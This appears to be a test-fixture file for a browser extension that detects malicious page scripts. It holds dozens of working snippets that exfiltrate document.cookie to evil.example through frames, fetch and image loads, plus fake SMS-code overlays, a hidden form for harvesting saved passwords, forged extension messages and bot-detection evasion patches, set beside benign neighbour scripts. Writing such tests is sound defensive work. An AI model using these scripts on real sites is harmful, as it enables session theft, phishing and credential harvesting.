  frame.srcdoc = '<p>reloaded</p><img src="/kz/product/snow-leopard-silver?parse-pause=2000">';
  const poll = () => {
    if (proxy.location.href !== 'about:srcdoc') return void setTimeout(poll, 5);
    proxy.fetch('https://evil.example/pristine-polled-srcdoc?c=' + encodeURIComponent(document.cookie));
  };
  poll();
})();`,

  /**
   * A srcdoc given to a frame already in the page: its document gets a new realm, whose own parser runs the script
   * before the frame's load, when Saq adopts it (docs/security.md). Given before the frame is inserted, it is hooked.
   */
  'srcdoc-given-in-page': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  document.body.appendChild(frame);
  frame.srcdoc = ${srcdocSendingCookie('srcdoc-given-in-page')};
})();`,

  /** The same, the frame in a closed shadow root (made by markup): its frame element is out of the document's reach. */
  'srcdoc-given-in-shadow': `(() => {
  const host = document.createElement('div');
  document.body.appendChild(host);
  const root = host.attachShadow({ mode: 'closed' });
  root.innerHTML = '<iframe style="display:none"></iframe>';
  root.firstChild.srcdoc = ${srcdocSendingCookie('srcdoc-given-in-shadow')};
})();`,

  /** The same one frame down: a frame inside a same-origin frame given its srcdoc once both are in place. */
  'srcdoc-given-nested': `(() => {
  const outer = document.createElement('iframe');
  outer.style.display = 'none';
  document.body.appendChild(outer);
  const doc = window[window.length - 1].document;
  const inner = doc.createElement('iframe');
  doc.body.appendChild(inner);
  inner.srcdoc = ${srcdocSendingCookie('srcdoc-given-nested')};
})();`,

  /** The same after document.open() on the outer frame's document, which erases the listeners of its window too. */
  'srcdoc-given-reopened': `(() => {
  const outer = document.createElement('iframe');
  outer.style.display = 'none';
  document.body.appendChild(outer);
  const doc = window[window.length - 1].document;
  doc.open();
  doc.write('<iframe></iframe>');
  doc.close();
  doc.querySelector('iframe').srcdoc = ${srcdocSendingCookie('srcdoc-given-reopened')};
})();`,

  /**
   * A srcdoc given to a frame inside a same-origin frame after a write into the outer frame's loaded document (an
   * implicit open, which no hook sees, erases its window's listeners): the written script listens for the
   * handover's event first and stops it.
   */
  'ready-stopped-rewritten': `(() => {
  const outer = document.createElement('iframe');
  outer.style.display = 'none';
  document.body.appendChild(outer);
  const index = window.length - 1;
  setTimeout(() => {
    const doc = window[index].document;
    doc.write('<body><scr' + 'ipt>addEventListener("saq:frame-ready/v1", (event) => event.stopImmediatePropagation(), true)</scr' + 'ipt>');
    doc.close();
    const inner = doc.createElement('iframe');
    doc.body.appendChild(inner);
    inner.srcdoc = ${srcdocSendingCookie('ready-stopped-rewritten')};
  }, 200);
})();`,

  /** A srcdoc given to a frame in a closed shadow root whose host stops the handover's event (capture, added first). */
  'ready-stopped-at-host': `(() => {
  const host = document.createElement('div');
  document.body.appendChild(host);
  host.addEventListener('saq:frame-ready/v1', (event) => event.stopImmediatePropagation(), true);
  const root = host.attachShadow({ mode: 'closed' });
  root.innerHTML = '<iframe style="display:none"></iframe>';
  root.firstChild.srcdoc = ${srcdocSendingCookie('ready-stopped-at-host')};
})();`,

  /** A srcdoc given to a frame in a closed shadow root whose root stops the handover's event (capture, added first). */
  'ready-stopped-at-root': `(() => {
  const host = document.createElement('div');
  document.body.appendChild(host);
  const root = host.attachShadow({ mode: 'closed' });
  root.addEventListener('saq:frame-ready/v1', (event) => event.stopImmediatePropagation(), true);
  root.innerHTML = '<iframe style="display:none"></iframe>';
  root.firstChild.srcdoc = ${srcdocSendingCookie('ready-stopped-at-root')};
})();`,

  /** A srcdoc given to a frame in the page, the handover's event stopped at the window, document and frame (added after Saq's). */
  'ready-stopped-in-page': `(() => {
  const stop = (event) => event.stopImmediatePropagation();
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  for (const target of [window, document, frame]) target.addEventListener('saq:frame-ready/v1', stop, true);
  document.body.appendChild(frame);
  frame.srcdoc = ${srcdocSendingCookie('ready-stopped-in-page')};
})();`,

  /** A loaded srcdoc frame sent to a javascript: URL whose result is markup: a new document, its script sending. */
  'javascript-url-frame': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  frame.srcdoc = '<p>first</p>';
  document.body.appendChild(frame);
  const proxy = window[window.length - 1];
  let done = false;
  frame.addEventListener('load', () => {
    if (done) return;
    done = true;
    const code = '<scr' + 'ipt>fetch("https://evil.example/javascript-url-frame?c=" + encodeURIComponent(document.cookie))</scr' + 'ipt>';
    proxy.location.href = 'javascript:' + encodeURIComponent(JSON.stringify(code));
  });
})();`,

  /** A frame given its srcdoc, then moved at once into a same-origin frame's document (a new browsing context there). */
  'srcdoc-given-moved': `(() => {
  const outer = document.createElement('iframe');
  outer.style.display = 'none';
  document.body.appendChild(outer);
  const doc = window[window.length - 1].document;
  const frame = document.createElement('iframe');
  document.body.appendChild(frame);
  frame.srcdoc = ${srcdocSendingCookie('srcdoc-given-moved')};
  doc.body.appendChild(doc.adoptNode(frame));
})();`,

  /**
   * The shop's own srcdoc frame (its HTML: srcdocWidgetPage) reloaded and its new realm polled for before the
   * handover hooks it; that realm's srcdoc setter, unhooked, gives a frame of the helper's a srcdoc no hook sees,
   * whose script sends the cookie.
   */
  'srcdoc-through-polled-shop-frame': `(() => {
  const proxy = window[0];
  const target = document.createElement('iframe');
  target.style.display = 'none';
  document.body.appendChild(target);
  const start = () => {
    const old = proxy.Function;
    proxy.location.reload();
    const poll = () => {
      let fresh = false;
      try { fresh = proxy.Function !== old; } catch {}
      if (!fresh) return void setTimeout(poll, 0);
      const set = proxy.Object.getOwnPropertyDescriptor(proxy.HTMLIFrameElement.prototype, 'srcdoc').set;
      set.call(target, ${srcdocSendingCookie('srcdoc-through-polled-shop-frame')});
    };
    poll();
  };
  if (document.readyState === 'complete') start();
  else addEventListener('load', start);
})();`,

  /**
   * A popup the helper opens on a shop page and, once loaded, sends to about:blank: a top-level document, with no
   * frame element, whose new realm is polled for through the window window.open returned.
   */
  'popup-renavigated': `(() => {
  const w = window.open('/kz/pages/questions', 'helper-popup', 'popup');
  let old = null;
  const poll = () => {
    let fresh = false;
    try { fresh = w.Function !== old && w.location.href === 'about:blank'; } catch {}
    if (!fresh) return void setTimeout(poll, 5);
    w.fetch('https://evil.example/popup-renavigated?c=' + encodeURIComponent(document.cookie));
    setTimeout(() => w.close(), 1000);
  };
  const loaded = () => {
    let ready = false;
    try { ready = w.location.pathname === '/kz/pages/questions' && w.document.readyState === 'complete'; } catch {}
    if (!ready) return void setTimeout(loaded, 20);
    old = w.Function;
    w.location.href = 'about:blank';
    poll();
  };
  loaded();
})();`,

  /**
   * A frame the helper sends from one blob: page it made to another whose own script sends the cookie: the second
   * document is a new realm (the first took over the frame's first window) that only a handover there hooks in time.
   */
  'blob-frame-next-page': `(() => {
  const page = (body) => URL.createObjectURL(new Blob(['<!doctype html><meta charset="utf-8">' + body], { type: 'text/html' }));
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  const first = page('<p>first</p>');
  frame.src = first;
  let sent = false;
  frame.addEventListener('load', () => {
    if (sent || frame.contentDocument.URL !== first) return;
    sent = true;
    frame.src = page('<scr' + 'ipt>fetch("https://evil.example/blob-frame-next-page?c=" + encodeURIComponent(parent.document.cookie))</scr' + 'ipt>');
  });
  document.body.appendChild(frame);
})();`,

  /**
   * The shop's receipt in a blob: frame (BENIGN['blob-receipt']), its second page's realm polled for by window[0]
   * before that page loads (its logo is slow): a same-origin document no handover ran in, its fetch taken.
   */
  'blob-realm-polled': `(() => {
  let old = null;
  const poll = () => {
    const w = window[0];
    let ready = false;
    try {
      const blob = !!w && w.location.protocol === 'blob:';
      if (blob && old === null) old = w.Function; // the receipt's first page
      ready = blob && w.Function !== old;
    } catch {}
    if (!ready) return void setTimeout(poll, 5);
    w.fetch('https://evil.example/blob-realm-polled?c=' + encodeURIComponent(document.cookie));
  };
  poll();
})();`,

  /** A srcdoc given to a sandboxed frame (allow-scripts allow-same-origin) already in the page. */
  'srcdoc-given-sandboxed': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  frame.sandbox = 'allow-scripts allow-same-origin';
  document.body.appendChild(frame);
  frame.srcdoc = ${srcdocSendingCookie('srcdoc-given-sandboxed')};
})();`,

  /** A srcdoc given to a frame inside a same-origin frame that is itself in a closed shadow root. */
  'srcdoc-given-shadow-nested': `(() => {
  const host = document.createElement('div');
  document.body.appendChild(host);
  const root = host.attachShadow({ mode: 'closed' });
  root.innerHTML = '<iframe style="display:none"></iframe>';
  const doc = root.firstChild.contentDocument;
  const inner = doc.createElement('iframe');
  doc.body.appendChild(inner);
  inner.srcdoc = ${srcdocSendingCookie('srcdoc-given-shadow-nested')};
})();`,

  /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
  'pristine-srcdoc-parsed-frame': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  frame.srcdoc = '<iframe></iframe>';
  let sent = false;
  frame.addEventListener('load', () => {
    const outer = window[window.length - 1];
    if (sent || outer.location.href !== 'about:srcdoc' || outer.length === 0) return;
    sent = true;
    outer[0].fetch('https://evil.example/pristine-srcdoc-parsed-frame?c=' + encodeURIComponent(document.cookie));
  });
  document.body.appendChild(frame);
})();`,

  /**
   * A srcdoc frame in a declarative shadow root (setHTMLUnsafe): its script posts a message, and the
   * helper takes fetch from the event's source, reading no frame accessor.
   */
  'pristine-declarative-shadow': `(() => {
  addEventListener('message', (event) => {
    if (event.data !== 'pristine-declarative-shadow') return;
    const clean = event.source;
    setTimeout(() => clean.fetch('https://evil.example/pristine-declarative-shadow?c=' + encodeURIComponent(document.cookie)), 500);
  });
  const host = document.createElement('div');
  document.body.appendChild(host);
  host.setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe style="display:none" srcdoc="<script>parent.postMessage(&quot;pristine-declarative-shadow&quot;, &quot;*&quot;)<\\/script>"></iframe></template></div>');
})();`,

  /** Like 'pristine-reopened-nested', the outer document opened implicitly by document.write once it has loaded. */
  'pristine-rewritten-nested': `(() => {
  const outer = document.createElement('iframe');
  outer.style.display = 'none';
  document.body.appendChild(outer);
  const index = window.length - 1;
  setTimeout(() => {
    const doc = window[index].document;
    doc.write('<iframe></iframe>');
    doc.close();
    const inner = doc.querySelector('iframe');
    ${sendAtSrcdocLoad('inner', 'window[index][0]', 'pristine-rewritten-nested')}
  }, 200);
})();`,

  /** A srcdoc frame sent to about:blank by its location; the new realm polled for before its load. */
  'pristine-polled-navigation': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  document.body.appendChild(frame);
  const proxy = window[window.length - 1];
  let started = false;
  frame.addEventListener('load', () => {
    if (started || proxy.location.href !== 'about:srcdoc') return;
    started = true;
    const old = proxy.Function;
    proxy.location.href = 'about:blank';
    const poll = () => {
      let fresh = false;
      try { fresh = proxy.Function !== old; } catch {}
      if (!fresh) return void setTimeout(poll, 0);
      proxy.fetch('https://evil.example/pristine-polled-navigation?c=' + encodeURIComponent(document.cookie));
    };
    poll();
  });
  frame.srcdoc = '<p>first</p>';
})();`,

  /** A named srcdoc frame given a new realm by a form submitted to about:blank; fetch taken at its load. */
  'pristine-form-target': `(() => {
  const frame = document.createElement('iframe');
  frame.name = 'helperform';
  frame.style.display = 'none';
  document.body.appendChild(frame);
  const proxy = window[window.length - 1];
  let stage = 0;
  frame.addEventListener('load', () => {
    if (stage === 0 && proxy.location.href === 'about:srcdoc') {
      stage = 1;
      const form = document.createElement('form');
      form.action = 'about:blank';
      form.target = 'helperform';
      form.style.display = 'none';
      document.body.appendChild(form);
      form.submit();
    } else if (stage === 1 && proxy.location.href.startsWith('about:blank')) {
      stage = 2;
      proxy.fetch('https://evil.example/pristine-form-target?c=' + encodeURIComponent(document.cookie));
    }
  });
  frame.srcdoc = '<p>first</p>';
})();`,

  /** A frame showing a shop page (its own copy of Saq runs there): its fetch taken by the helper once it loads. */
  'pristine-shop-frame': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  frame.src = '/kz/faq';
  frame.addEventListener('load', () => {
    setTimeout(() => frame.contentWindow.fetch('https://evil.example/pristine-shop-frame?c=' + encodeURIComponent(document.cookie)), 300);
  });
  document.body.appendChild(frame);
})();`,

  /**
   * A stranger's frame, its address carrying nothing, handed the cookie another way; the frame sends it from its
   * own origin (evil.example's pages below read it from a message, their name, their address's fragment).
   */
  'stranger-frame-message': `(() => {
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.addEventListener('load', () => frame.contentWindow.postMessage(document.cookie, '*'));
  frame.src = 'https://evil.example/frame-message.html';
  document.body.appendChild(frame);
})();`,
  'stranger-frame-name': `(() => {
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.name = document.cookie;
  frame.src = 'https://evil.example/frame-name.html';
  document.body.appendChild(frame);
})();`,
  'stranger-frame-fragment': `(() => {
  const frame = document.createElement('iframe');
  frame.hidden = true;
  document.body.appendChild(frame);
  frame.src = 'https://evil.example/frame-fragment.html#' + encodeURIComponent(document.cookie);
})();`,
  /** The same fragment route by the other ways a frame, an <object> or an <embed> is given a page. */
  'stranger-frame-markup': `(() => {
  document.body.insertAdjacentHTML(
    'beforeend',
    '<iframe hidden src="https://evil.example/frame-markup.html#' + encodeURIComponent(document.cookie) + '"></iframe>',
  );
})();`,
  'stranger-frame-attribute': `(() => {
  const frame = document.createElement('iframe');
  frame.hidden = true;
  document.body.appendChild(frame);
  frame.setAttribute('src', 'https://evil.example/frame-attribute.html#' + encodeURIComponent(document.cookie));
})();`,
  'stranger-frame-object': `(() => {
  const object = document.createElement('object');
  object.type = 'text/html';
  object.width = object.height = 1;
  document.body.appendChild(object);
  object.data = 'https://evil.example/frame-object.html#' + encodeURIComponent(document.cookie);
})();`,
  'stranger-frame-base': `(() => {
  // A <base> makes the frame's relative address a stranger's, and goes again.
  const base = document.createElement('base');
  base.href = 'https://evil.example/';
  document.head.append(base);
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.src = 'frame-base.html#' + encodeURIComponent(document.cookie);
  document.body.appendChild(frame);
  base.remove();
})();`,
  'stranger-frame-shielded': `(() => {
  // A srcdoc shows instead of the src, until it is taken away (no hook sees an attribute removed).
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.srcdoc = '.';
  frame.src = 'https://evil.example/frame-shielded.html#' + encodeURIComponent(document.cookie);
  document.body.appendChild(frame);
  setTimeout(() => frame.removeAttribute('srcdoc'), 300);
})();`,
  'stranger-frame-srcdoc': `(() => {
  // The stranger's frame made by a srcdoc frame's own parser.
  const frame = document.createElement('iframe');
  frame.hidden = true;
  document.body.appendChild(frame);
  frame.srcdoc = '<iframe src="https://evil.example/frame-srcdoc.html#' + encodeURIComponent(document.cookie) + '"></iframe>';
})();`,
  'stranger-frame-srcdoc-script': `(() => {
  // The stranger's frame made by the script of a srcdoc frame the helper wrote: that code is named by the frame's
  // address (about:srcdoc), and the helper wrote it.
  const frame = document.createElement('iframe');
  frame.hidden = true;
  frame.srcdoc = '<body><script>const f = document.createElement("iframe");'
    + 'f.src = "https://evil.example/frame-srcdoc-script.html#" + encodeURIComponent(document.cookie);'
    + 'document.body.append(f);<\\/script>';
  document.body.appendChild(frame);
})();`,
  /**
   * The same, once the shop's own srcdoc widget has drawn (BENIGN['srcdoc-widget'], on the page before it): the
   * shop writing srcdocs first must not make the helper's srcdoc code the shop's.
   */
  'stranger-frame-after-shop': `(() => {
  const write = () => {
    if (!window.__srcdocWidget) return setTimeout(write, 20);
    const frame = document.createElement('iframe');
    frame.hidden = true;
    frame.srcdoc = '<body><script>const f = document.createElement("iframe");'
      + 'f.src = "https://evil.example/frame-after-shop.html#" + encodeURIComponent(document.cookie);'
      + 'document.body.append(f);<\\/script>';
    document.body.appendChild(frame);
  };
  write();
})();`,
  'stranger-frame-editor': `(() => {
  // Put at the caret of an editable part of the page.
  const editor = document.createElement('div');
  editor.contentEditable = 'true';
  document.body.append(editor);
  editor.focus();
  document.execCommand('insertHTML', false, '<iframe src="https://evil.example/frame-editor.html#' + encodeURIComponent(document.cookie) + '"></iframe>');
})();`,
  'stranger-frame-embed': `(() => {
  const embed = document.createElement('embed');
  embed.type = 'text/html';
  embed.width = embed.height = 1;
  embed.src = 'https://evil.example/frame-embed.html#' + encodeURIComponent(document.cookie);
  document.body.appendChild(embed);
})();`,

  /**
   * The cookie sent by loads of same-origin frames Saq's scripts do not run in, made by the frame's own parser or
   * style: no hook wraps them, and they are on the frame's timeline, not the page's. The frames are shown (1×1):
   * a hidden one's document is not laid out, and its CSS backgrounds are never fetched.
   */
  'frame-pixels': `(() => {
  const at = (name) => 'https://evil.example/' + name + '?c=' + encodeURIComponent(document.cookie);
  const frame = (srcdoc) => {
    const frame = document.createElement('iframe');
    frame.width = frame.height = '1';
    if (srcdoc !== undefined) frame.srcdoc = srcdoc;
    document.body.appendChild(frame);
    return frame;
  };
  frame('<img src="' + at('f-srcdoc-img.gif') + '">');
  frame('<style>body { background: url("' + at('f-srcdoc-css.gif') + '"); }</style>.');
  const blank = frame();
  blank.contentDocument.body.style.background = 'url("' + at('f-blank-css.gif') + '")';
  blank.contentDocument.body.textContent = '.';
  // Blinded first: the frame's timeline API made to show nothing, then a document loaded into the same window.
  const blinded = frame();
  const win = blinded.contentWindow;
  win.PerformanceObserver = function PerformanceObserver() { return { observe() {}, disconnect() {} }; };
  Object.defineProperty(win.PerformanceEntry.prototype, 'name', { get: () => 'about:blank' });
  Object.defineProperty(win, 'performance', { value: {} });
  blinded.srcdoc = '<img src="' + at('f-blinded-img.gif') + '">';
  // The cookie past 4 KB of address.
  frame('<img src="https://evil.example/f-long.gif?p=' + 'A'.repeat(4200) + '&c=' + encodeURIComponent(document.cookie) + '">');
  // 300 loads of nothing first, then the one that matters.
  const flooded = frame('.');
  flooded.addEventListener('load', () => {
    const doc = flooded.contentDocument;
    for (let i = 0; i < 300; i++) {
      const junk = doc.createElement('div');
      junk.style.background = 'url("https://evil.example/f-junk-' + i + '.gif")';
      junk.textContent = '.';
      doc.body.append(junk);
    }
    setTimeout(() => (doc.body.style.background = 'url("' + at('f-flood.gif') + '")'), 300);
  });
  // A frame in a closed shadow root, given its srcdoc once it is in: its next realm loads where no document hears it.
  const host = document.createElement('div');
  document.body.append(host);
  const shadowed = document.createElement('iframe');
  shadowed.width = shadowed.height = '1';
  host.attachShadow({ mode: 'closed' }).append(shadowed);
  setTimeout(() => (shadowed.srcdoc = '<img src="' + at('f-shadow.gif') + '">'), 100);
  // The frame's new timeline shrunk to nothing by its own first script (Firefox gives the reused window a new one).
  frame('<script>performance.setResourceTimingBufferSize(0)<\\/script><img src="' + at('f-unbuffered.gif') + '">');
  // Frames a srcdoc's parser makes load before it does: a 33rd sibling, and a fifth level down.
  const quoted = (html) => html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  frame('<iframe></iframe>'.repeat(32) + '<iframe srcdoc="' + quoted('<img src="' + at('f-sibling.gif') + '">') + '"></iframe>');
  let nested = '<img src="' + at('f-deep.gif') + '">';
  for (let level = 0; level < 5; level++) nested = '<iframe srcdoc="' + quoted(nested) + '"></iframe>';
  frame(nested);
})();`,

  /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
  'srcdoc-frame': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  frame.srcdoc = '<script>fetch("https://evil.example/srcdoc?c=" + encodeURIComponent(document.cookie))<\\/script>';
  document.body.appendChild(frame);
})();`,

  /** Puts the pristine fetch back in place of the page's (hooked) one. */
  'restore-fetch': `(() => {
  const frame = document.createElement('iframe');
  document.body.appendChild(frame);
  window.fetch = frame.contentWindow.fetch;
})();`,

  /** Replaces Function.prototype.toString to read hooks' real source (and hide its own patches). */
  'tostring-patch': `(() => {
  const original = Function.prototype.toString;
  Function.prototype.toString = function toString() { return original.call(this); };
})();`,

  /**
   * A fake "confirm with the SMS code" dialog over the page, drawn by a helper's script in the page's own world
   * (not an extension's): node by node, and as markup. The MAIN world sees who placed its field.
   */
  'page-overlay': `(() => {
  const cover = document.createElement('div');
  cover.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6)';
  const form = document.createElement('form');
  form.style.cssText = 'background:#fff;padding:24px';
  const field = document.createElement('input');
  field.name = 'sms';
  field.placeholder = 'SMS code';
  form.append('Confirm the purchase with the SMS code', field);
  cover.append(form);
  document.body.append(cover);
})();`,
  'page-overlay-markup': `(() => {
  const cover = document.createElement('div');
  cover.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6)';
  document.body.append(cover);
  cover.innerHTML = '<form style="background:#fff;padding:24px"><p>Confirm the purchase with the SMS code</p><input name="sms" placeholder="SMS code"><button>OK</button></form>';
})();`,
  /** An "SMS code" field slipped into the checkout page itself, no dialog around it: nothing covers the window. */
  'page-field-inline': `(() => {
  const field = document.createElement('input');
  field.name = 'sms';
  field.placeholder = 'SMS code to confirm the order';
  document.querySelector('[data-role="order-confirm"]').before(field);
})();`,
  /** A sign-in form nobody sees, for the password manager to fill: how saved passwords are harvested. */
  'page-hidden-login': `(() => {
  const form = document.createElement('form');
  form.style.cssText = 'position:absolute;left:-9999px;opacity:0';
  form.innerHTML = '<input name="username" autocomplete="username"><input type="password" name="password" autocomplete="current-password">';
  document.body.append(form);
})();`,
  /**
   * Waits for the shop's own "sign in again" dialog, then, once Saq has looked at it, turns its password
   * field into an "SMS code" field: the person now types the code into the shop's dialog, for the helper.
   */
  'renames-shop-dialog': `(() => {
  new MutationObserver((_records, observer) => {
    const field = document.querySelector('[data-signin] input[type="password"]');
    if (!field) return;
    observer.disconnect();
    setTimeout(() => {
      field.type = 'text';
      field.name = 'sms_code';
      field.placeholder = 'SMS code';
      window.__renamed = true;
    }, 600);
  }).observe(document.body, { childList: true, subtree: true });
})();`,

  /** Imitates the extension's private channel hello to feed it forged reports. */
  'spoof-channel': `(() => {
  const channel = new MessageChannel();
  window.postMessage({ 'saq:channel-hello/v1': true }, '*', [channel.port2]);
  channel.port1.postMessage({ t: 'finding', finding: { kind: 'script-inserted', actor: { type: 'page' }, evidence: {}, at: Date.now() } });
})();`,
} as const;

export type MainWorldScript = keyof typeof MAIN_WORLD_SCRIPTS;

/**
 * A "console paste" / bookmarklet: code with no URL. Navigating the tab to a `javascript:` URL runs it
 * with anonymous frames (the test's own evaluate call only sets `location`, and its frames are gone).
 */
export const CONSOLE_PASTE = `javascript:void (() => { const s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/from-console.js'; document.head.appendChild(s); })()`;
export const FROM_CONSOLE = `window.__fromConsole = true;`;

/** ChromeDriver's marker globals, as its injected script leaves them (the test page plays the driver). */
export const CDC_GLOBALS = `<script>window.cdc_adoQpoasnfa76pfcZLmcfl_Array = Array; window.cdc_adoQpoasnfa76pfcZLmcfl_Promise = Promise;</script>`;

/**
 * The same globals behind a stealth patch that filters them out of the enumerations and makes
 * RegExp.prototype.test answer false — what a helper would do once it knows how driver globals are looked for.
 */
export const CDC_GLOBALS_HIDDEN = `${CDC_GLOBALS}<script>(() => {
  const visible = (names) => names.filter((name) => !name.startsWith('cdc_'));
  const { keys, getOwnPropertyNames } = Object;
  Object.keys = (object) => visible(keys(object));
  Object.getOwnPropertyNames = (object) => visible(getOwnPropertyNames(object));
  RegExp.prototype.test = () => false;
})();</script>`;

/** What a "stealth" plugin does first: makes navigator.webdriver read false with a script getter. */
export const STEALTH_WEBDRIVER = `<script>Object.defineProperty(Navigator.prototype, 'webdriver', { get: () => false, configurable: true, enumerable: true });</script>`;

/**
 * The same, with the browser's own getter behind a Proxy: the getter still reads as native code to
 * `Function.prototype.toString`, so only its identity tells it from the one the browser shipped.
 */
export const STEALTH_WEBDRIVER_PROXY = `<script>(() => {
  const shipped = Object.getOwnPropertyDescriptor(Navigator.prototype, 'webdriver');
  Object.defineProperty(Navigator.prototype, 'webdriver', { ...shipped, get: new Proxy(shipped.get, { apply: () => false }) });
})();</script>`;

/** Benign neighbours. */
/**
 * The shop's sign-in as a web component: the form in an open shadow root, as component frameworks build it.
 * Served as a first-party page and script (tests/e2e/sensors-main-keylogger.e2e.ts).
 */
export const SHADOW_LOGIN = {
  page: `<!doctype html><html lang="kk"><head><meta charset="utf-8"></head><body><h1>Кіру</h1><shop-sign-in></shop-sign-in><script src="/assets/sign-in.js"></script></body></html>`,
  script: `customElements.define('shop-sign-in', class extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({ mode: 'open' });
    root.innerHTML = '<form><div class="fields"><input name="login" aria-label="Login"><input type="password" name="password" aria-label="Password"></div></form>';
  }
});`,
};

/**
 * The shop's sign-in fields as web components with closed shadow roots, each field filling its host (a test
 * focuses one by clicking its host: no selector reaches inside). The shop's own input listener in each root
 * tidies what is typed.
 */
export const CLOSED_LOGIN = {
  page: `<!doctype html><html lang="kk"><head><meta charset="utf-8"><style>shop-login-field, shop-password-field { display: block; width: 300px; height: 40px; margin: 8px; }</style></head><body><h1>Кіру</h1><shop-login-field></shop-login-field><shop-password-field></shop-password-field><script src="/assets/closed-sign-in.js"></script></body></html>`,
  script: `for (const [name, field] of [['shop-login-field', '<input name="login" aria-label="Login">'], ['shop-password-field', '<form><div class="fields"><input type="password" name="password" aria-label="Password"></div></form>']]) {
  customElements.define(name, class extends HTMLElement {
    connectedCallback() {
      const root = this.attachShadow({ mode: 'closed' });
      root.innerHTML = '<style>input { box-sizing: border-box; width: 100%; height: 40px; }</style>' + field;
      root.addEventListener('input', () => root.querySelector('input').classList.toggle('filled', root.querySelector('input').value !== ''));
    }
  });
}
window.__closedLoginReady = true;`,
};

/**
 * The same sign-in fields with closed shadow roots the parser makes (`<template shadowrootmode="closed">`):
 * no attachShadow call, so no page-world hook sees them. The shop's script reaches each root as its custom
 * element's own (ElementInternals.shadowRoot) to tidy what is typed.
 */
export const DECLARATIVE_LOGIN = {
  page: `<!doctype html><html lang="kk"><head><meta charset="utf-8"><style>shop-login-field, shop-password-field { display: block; width: 300px; height: 40px; margin: 8px; }</style></head><body><h1>Кіру</h1><shop-login-field><template shadowrootmode="closed"><style>input { box-sizing: border-box; width: 100%; height: 40px; }</style><input name="login" aria-label="Login"></template></shop-login-field><shop-password-field><template shadowrootmode="closed"><style>input { box-sizing: border-box; width: 100%; height: 40px; }</style><form><div class="fields"><input type="password" name="password" aria-label="Password"></div></form></template></shop-password-field><script src="/assets/declarative-sign-in.js"></script></body></html>`,
  script: `for (const name of ['shop-login-field', 'shop-password-field']) {
  customElements.define(name, class extends HTMLElement {
    constructor() {
      super();
      const root = this.attachInternals().shadowRoot;
      root.addEventListener('input', () => root.querySelector('input').classList.toggle('filled', root.querySelector('input').value !== ''));
    }
  });
}
window.__closedLoginReady = true;`,
};

export const BENIGN = {
  /** A user-agent switcher extension's page-world patch: a privacy tool, not a bot. */
  uaSwitcher: `<script>Object.defineProperty(Navigator.prototype, 'userAgent', { get: () => 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', configurable: true, enumerable: true });</script>`,
  /**
   * A first-party script that compiles templates with new Function, polls with a string timer, opens its
   * own blank frame and gives a script it inserted empty its code by innerText.
   */
  templates: `(() => {
  const render = new Function('data', 'return "<b>" + data.name + "</b>";');
  window.__rendered = render({ name: 'Ілбіс' });
  setTimeout('window.__tick = (window.__tick || 0) + 1', 10);
  const printFrame = document.createElement('iframe');
  printFrame.style.display = 'none';
  document.body.appendChild(printFrame);
  printFrame.contentWindow.document.title = 'print';
  // Its own script inserted empty and given its code afterwards, as old loaders do.
  const filledLater = document.createElement('script');
  document.head.appendChild(filledLater);
  filledLater.innerText = 'window.__shopFilled = 1';
})();`,
  /**
   * A first-party script with old-fashioned inline handlers: set by setAttribute, in innerHTML,
   * insertAdjacentHTML and a DOMParser's document, and markup whose text only looks like one (`once=`, `data-onclick`).
   */
  'own-handlers': `(() => {
  const mark = (way) => "window.__ownHandlers = (window.__ownHandlers || 0) + 1; /* " + way + " */";
  const button = document.createElement('button');
  button.textContent = 'Print';
  button.setAttribute('onclick', mark('set-attribute'));
  const list = document.createElement('div');
  list.innerHTML = '<img src="/shop-missing-1.png" onerror="' + mark('inner-html') + '"><p data-onclick="x">Say it once= and again</p>';
  document.body.append(button, list);
  document.body.insertAdjacentHTML('beforeend', '<img src="/shop-missing-2.png" onerror="' + mark('adjacent') + '">');
  const parsed = new DOMParser().parseFromString('<img src="/shop-missing-3.png" onerror="' + mark('parsed') + '">', 'text/html');
  document.body.append(parsed.body.firstChild);
  button.click();
})();`,
  /**
   * The shop's own code loading modules with \`import()\`: one of its own and one from its captcha provider
   * (a trusted host); neither leaves a script element.
   */
  'own-modules': `Promise.all([import('/assets/reviews-module.js'), import('https://captcha.kazpay.test/module.js')]).then(() => { window.__modules = true; });`,
  /**
   * The shop's own frames, object and embed showing a partner's pages (a site no profile trusts), by each route the
   * stranger-frame cases take: markup, setAttribute, data, src set before insertion.
   */
  'partner-media': `(() => {
  const media = document.createElement('div');
  document.body.append(media);
  media.insertAdjacentHTML('beforeend', '<iframe title="video" src="https://media.partner.test/embed/coin#t=5"></iframe>');
  const frame = document.createElement('iframe');
  media.append(frame);
  frame.setAttribute('src', 'https://media.partner.test/nbk-branches');
  const object = document.createElement('object');
  object.type = 'text/html';
  media.append(object);
  object.data = 'https://media.partner.test/catalogue';
  const embed = document.createElement('embed');
  embed.type = 'text/html';
  embed.src = 'https://media.partner.test/player';
  media.append(embed);
  window.__mediaShown = true;
})();`,
  /**
   * A widget the shop draws in same-origin frames, loading a partner's style sheet, picture and script (a srcdoc
   * frame) and a background (an about:blank one): no secret in any address (frame-timeline.main.ts reads them).
   */
  'widget-frames': `(() => {
  const widget = document.createElement('iframe');
  widget.srcdoc = '<link rel="stylesheet" href="https://media.partner.test/w.css"><img src="https://media.partner.test/coin.png?size=2">'
    + '<script src="https://media.partner.test/w.js"><\\/script>';
  document.body.append(widget);
